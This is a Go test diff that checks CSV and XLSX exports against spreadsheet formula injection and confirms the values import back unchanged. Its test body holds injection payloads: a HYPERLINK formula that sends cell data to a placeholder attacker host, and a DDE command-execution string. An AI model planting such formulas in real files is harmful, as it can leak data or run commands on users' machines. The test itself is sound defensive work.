@@ -1,6 +1,7 @@
 package framework
 
 import (
+	"encoding/csv"
 	"os"
 	"path/filepath"
 	"strings"
@@ -191,4 +192,53 @@ func makeXLSX(t *testing.T, rows [][]string) []byte {
 		t.Fatal(err)
 	}
 	return buf.Bytes()
+}
+
+func TestExportsWriteNoFormulas(t *testing.T) {
+	p, err := Parse("demo.yaml", Demo, catalog.Framework{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	evil := `=HYPERLINK("http://evil.example/?"&A1,"点击查看")`
+	p.Indicators[0].Name = evil
+	p.Indicators[0].Info = "+1+cmd|' /C calc'!A0"
+	p.Indicators[0].Keywords = []string{"@SUM(1)", "学分银行"}
+	c, err := ExportCSV(p.Indicators)
+	if err != nil {
+		t.Fatal(err)
+	}
+	x, err := ExportXLSX(p.Framework, p.Indicators)
+	if err != nil {
+		t.Fatal(err)
+	}
+	f, err := excelize.OpenReader(strings.NewReader(string(x)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	rows, err := f.GetRows(f.GetSheetName(0))
+	if err != nil {
+		t.Fatal(err)
+	}
+	records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(c), "\xef\xbb\xbf"))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for name, table := range map[string][][]string{"csv": records, "xlsx": rows} {
+		for _, rec := range table {
+			for _, cell := range rec {
+				if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
+					t.Errorf("%s export has a cell a spreadsheet runs as a formula: %q", name, cell)
+				}
+			}
+		}
+	}
+	for name, data := range map[string][]byte{"again.csv": c, "again.xlsx": x} {
+		q, err := Parse(name, data, p.Framework)
+		if err != nil {
+			t.Fatalf("%s: %v", name, err)
+		}
+		if got := q.Indicators[0]; got.Name != evil || got.Info != p.Indicators[0].Info || got.Keywords[0] != "@SUM(1)" {
+			t.Errorf("%s does not import back as exported: %q %q %q", name, got.Name, got.Info, got.Keywords)
+		}
+	}
 }
